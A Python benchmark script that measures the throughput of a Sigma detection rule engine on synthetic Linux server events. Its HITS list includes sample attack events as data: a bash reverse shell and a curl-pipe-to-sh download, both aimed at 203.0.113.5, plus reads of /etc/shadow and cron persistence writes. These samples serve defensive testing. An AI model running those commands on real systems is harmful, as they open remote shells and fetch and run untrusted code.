"""Rule evaluation rate: the built-in pack plus every loadable SigmaHQ Linux rule,
over a replay of server-like events (mostly benign, a few hits), on one core.

Prints events/s with all rules loaded, events/s for the same replay with no rules
loaded (the engine's fixed cost: field mapping, dispatch), and their ratio, all
measured in the same run.  Not a timed test; see BENCHMARKS.md.

    .venv/bin/python bench/bench_rules.py [--events 200000] [--rounds 5] [--cpu 0]
"""

from __future__ import annotations

import argparse
import os
import random
import statistics
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from hive.sigma import BUILTIN_RULES, SIGMAHQ_RULES, RuleEngine  # noqa: E402
from wire import Bind, Connect, Exec, Exit, Fork, Open, SetId  # noqa: E402


USERS = [("root", 0), ("www-data", 33), ("postgres", 112), ("alice", 1000), ("ci", 1001)]
COMMANDS = [
    ("/usr/bin/git", "git status --porcelain"), ("/usr/bin/git", "git fetch origin main"),
    ("/usr/bin/ls", "ls -la /var/www/html"), ("/usr/bin/ps", "ps aux"),
    ("/usr/bin/python3", "python3 /opt/app/manage.py runjob --queue default"),
    ("/usr/bin/python3", "python3 -m pip install -r requirements.txt"),
    ("/usr/bin/bash", "bash /etc/cron.daily/logrotate"), ("/usr/sbin/logrotate",
                                                          "/usr/sbin/logrotate /etc/logrotate.conf"),
    ("/usr/bin/grep", "grep -r TODO src/"), ("/usr/bin/find", "find /var/log -name *.gz -mtime +7"),
    ("/usr/bin/sed", "sed -i s/foo/bar/ config.ini"), ("/usr/bin/tar", "tar czf backup.tgz /srv/data"),
    ("/usr/bin/node", "node /srv/web/server.js --port 3000"), ("/usr/bin/make", "make -j8 all"),
    ("/usr/bin/gcc", "gcc -O2 -c main.c -o main.o"), ("/usr/bin/ssh", "ssh -o BatchMode=yes db1 uptime"),
    ("/usr/bin/curl", "curl -s https://api.example.com/v1/health"), ("/usr/bin/cat", "cat /proc/loadavg"),
    ("/usr/bin/systemctl", "systemctl is-active nginx"), ("/usr/bin/docker", "docker ps --format {{.ID}}"),
    ("/usr/bin/sort", "sort -u names.txt"), ("/usr/bin/awk", "awk {print $1} access.log"),
    ("/usr/lib/postgresql/15/bin/postgres", "postgres: checkpointer"),
    ("/usr/bin/env", "/usr/bin/env python3 /opt/tools/report.py --daily"),
    ("/usr/bin/nginx", "nginx -s reload"), ("/usr/bin/rsync", "rsync -a /srv/data/ backup:/data/"),
    ("/usr/bin/psql", "psql -U app -c select 1"), ("/usr/bin/du", "du -sh /var/lib/docker"),
    ("/usr/bin/date", "date +%s"), ("/usr/bin/mkdir", "mkdir -p /srv/app/releases/42"),
    ("/usr/bin/cp", "cp -r build/ /srv/app/releases/42/"), ("/usr/bin/npm", "npm ci --silent"),
    ("/usr/bin/head", "head -n 100 /var/log/app/worker.log"), ("/usr/bin/wc", "wc -l data.csv"),
]
READERS = ["/usr/bin/python3", "/usr/sbin/nginx", "/usr/bin/node", "/usr/sbin/sshd",
           "/usr/lib/postgresql/15/bin/postgres", "/usr/lib/systemd/systemd", "/usr/bin/bash",
           "/usr/bin/git", "/usr/bin/make", "/usr/bin/gcc"]
CLIENTS = [("/usr/bin/python3", "python3 /opt/app/worker.py"), ("/usr/bin/node", "node server.js"),
           ("/usr/bin/git", "git fetch origin main"), ("/usr/bin/curl", "curl -s https://api/"),
           ("/usr/lib/postgresql/15/bin/postgres", "postgres: walsender")]
PARENTS = [("/usr/bin/bash", "bash"), ("/usr/sbin/cron", "/usr/sbin/CRON -f"),
           ("/usr/lib/systemd/systemd", "/sbin/init"), ("/usr/bin/make", "make -j8 all"),
           ("/usr/bin/python3", "python3 /opt/app/worker.py")]
READS = [
    "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/ld.so.cache", "/etc/nsswitch.conf",
    "/etc/passwd", "/etc/hosts", "/etc/resolv.conf", "/proc/self/status", "/proc/meminfo",
    "/usr/lib/python3.11/json/__init__.py", "/usr/lib/python3.11/encodings/utf_8.py",
    "/srv/web/node_modules/express/lib/router/index.js", "/var/www/html/index.php",
    "/opt/app/templates/base.html", "/etc/ssl/certs/ca-certificates.crt", "/usr/share/zoneinfo/UTC",
    "/sys/fs/cgroup/memory.max", "/etc/localtime", "/home/alice/project/src/main.c",
]
WRITES = ["/var/log/nginx/access.log", "/var/log/app/worker.log", "/tmp/tmp{n}.json",
          "/var/lib/postgresql/15/main/pg_wal/0000000100000000000000{n:02d}",
          "/home/alice/project/build/main.o", "/run/app/app.pid", "/srv/data/cache/{n}.bin"]
REMOTE = [("140.82.121.3", 443), ("151.101.1.69", 443), ("10.0.0.53", 53), ("10.0.2.20", 5432),
          ("172.31.4.10", 6379), ("52.95.110.1", 443)]
HITS = [
    Exec(filename="/tmp/.x/kworker", argv=["/tmp/.x/kworker"], cmdline="/tmp/.x/kworker"),
    Exec(filename="/bin/bash", cmdline="bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
    Exec(filename="/bin/sh", cmdline="sh -c curl -fsSL http://203.0.113.5/x.sh | sh"),
    Open(path="/etc/shadow", image="/usr/bin/python3"),
    Open(path="/etc/cron.d/updater", flags=os.O_WRONLY | os.O_CREAT, image="/bin/bash"),
    Connect(address="203.0.113.5", port=4444, image="/usr/bin/python3"),
    Exec(filename="/bin/sh", cmdline="sh -c id", parent_image="/usr/bin/python3",
         parent_cmdline="python3 -m vllm.entrypoints.openai.api_server --model /models/x"),
]


def replay(count: int, seed: int = 1) -> list:
    """Events a busy web/database/CI server produces: opens dominate, then process
    lifecycle, then sockets.  About one event in a thousand should alert."""
    rng = random.Random(seed)
    events = []
    pid = 10_000
    for n in range(count):
        user, uid = rng.choice(USERS)
        base = dict(agent=f"srv-{rng.randrange(20):02d}", time=1_700_000_000_000_000_000 + n,
                    uid=uid, euid=uid, user=user, ppid=rng.randrange(300, 9000))
        roll = rng.random()
        if rng.random() < 0.001:
            template = rng.choice(HITS)
            events.append(type(template)(**{**_fields(template), **base, "pid": pid}))
        elif roll < 0.55:
            events.append(Open(**base, pid=rng.randrange(300, 9000), path=rng.choice(READS),
                               image=rng.choice(READERS), flags=os.O_RDONLY))
        elif roll < 0.65:
            path = rng.choice(WRITES).format(n=rng.randrange(100))
            events.append(Open(**base, pid=rng.randrange(300, 9000), path=path,
                               image=rng.choice(READERS),
                               flags=os.O_WRONLY | os.O_CREAT | os.O_APPEND))
        elif roll < 0.78:
            image, command = rng.choice(COMMANDS)
            parent, parent_command = rng.choice(PARENTS)
            pid += 1
            events.append(Exec(**base, pid=pid, filename=image, exe=image,
                               argv=command.split(), cmdline=command, parent_image=parent,
                               parent_cmdline=parent_command, cwd="/srv/app"))
        elif roll < 0.86:
            events.append(Fork(**base, pid=rng.randrange(300, 9000), child_pid=pid + 1,
                               image=rng.choice(PARENTS)[0]))
        elif roll < 0.94:
            events.append(Exit(**base, pid=rng.randrange(300, 9000)))
        elif roll < 0.99:
            address, port = rng.choice(REMOTE)
            image, command = rng.choice(CLIENTS)
            events.append(Connect(**base, pid=rng.randrange(300, 9000), family=2,
                                  address=address, port=port, src_address="10.0.1.7",
                                  src_port=rng.randrange(32768, 60999), image=image,
                                  cmdline=command))
        elif roll < 0.995:
            events.append(Bind(**base, pid=rng.randrange(300, 9000), family=2,
                               address="0.0.0.0", port=rng.choice([8080, 3000, 0]),
                               image="/usr/bin/node"))
        else:
            events.append(SetId(**base, pid=rng.randrange(300, 9000), call="setuid", old=0,
                                new=rng.choice([33, 112, 1000]), image="/usr/sbin/sshd"))
    return events


def _fields(event) -> dict:
    return {f: getattr(event, f) for f in event.__struct_fields__
            if getattr(event, f) != getattr(type(event)(), f)}


def once(engine: RuleEngine, events: list) -> tuple[float, int]:
    """events/s for one pass, and its alerts."""
    process = engine.process
    alerts = 0
    start = time.perf_counter()
    for event in events:
        alerts += len(process(event))
    return len(events) / (time.perf_counter() - start), alerts


def measure(engines: list[RuleEngine], events: list, rounds: int) -> list[tuple[float, int]]:
    """Median events/s of each engine; rounds alternate between the engines so that a
    disturbance on the machine hits them alike."""
    rates: list[list[float]] = [[] for _ in engines]
    alerts = [0] * len(engines)
    for _ in range(rounds):
        for i, engine in enumerate(engines):
            rate, alerts[i] = once(engine, events)
            rates[i].append(rate)
    return [(statistics.median(r), a) for r, a in zip(rates, alerts)]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--events", type=int, default=200_000)
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--cpu", type=int, default=0, help="core to pin to (-1: do not pin)")
    parser.add_argument("--sigma", type=Path, default=SIGMAHQ_RULES)
    args = parser.parse_args()
    if args.cpu >= 0:
        os.sched_setaffinity(0, {args.cpu})
    events = replay(args.events)

    # No suppression, so every hit costs a whole alert; a far clock keeps windows idle.
    empty = RuleEngine(suppress_window=0)
    loaded = RuleEngine(suppress_window=0)
    report = loaded.load(BUILTIN_RULES, args.sigma)
    rules = len(report.rules) + len(report.correlations)
    measure([empty, loaded], events[:20_000], 1)  # warm up
    (bare, _), (full, alerts) = measure([empty, loaded], events, args.rounds)
    stats = loaded.statistics()
    per_event = stats.evaluated / stats.events
    kinds = {}
    for event in events:
        kinds[type(event).__name__] = kinds.get(type(event).__name__, 0) + 1

    print(f"python {sys.version.split()[0]}, pinned to cpu {args.cpu}, "
          f"{len(events)} events x {args.rounds} rounds (median)")
    print("mix: " + ", ".join(f"{k} {v / len(events):.0%}" for k, v in sorted(kinds.items())))
    print(f"rules loaded: {rules} (built-in pack + {args.sigma.name}), "
          f"{report.failed} not loadable")
    print(f"no rules:     {bare:12,.0f} events/s")
    print(f"all rules:    {full:12,.0f} events/s  ({1e6 / full:.2f} us/event)")
    print(f"ratio:        {full / bare:12.2f}  (all rules / no rules)")
    print(f"rule tests per event: {per_event:.2f} of {rules} rules; "
          f"alerts per round: {alerts} ({alerts / len(events):.2%} of events)")
    for kind in sorted(kinds):
        subset = [e for e in events if type(e).__name__ == kind]
        ((rate, _),) = measure([loaded], subset, args.rounds)
        print(f"  {kind:8} {rate:12,.0f} events/s  ({1e6 / rate:.2f} us/event)")
    print(f"anchor: at 20 us per rule evaluation, {rules} rules would allow "
          f"{1 / (20e-6 * rules):,.0f} events/s")


if __name__ == "__main__":
    main()
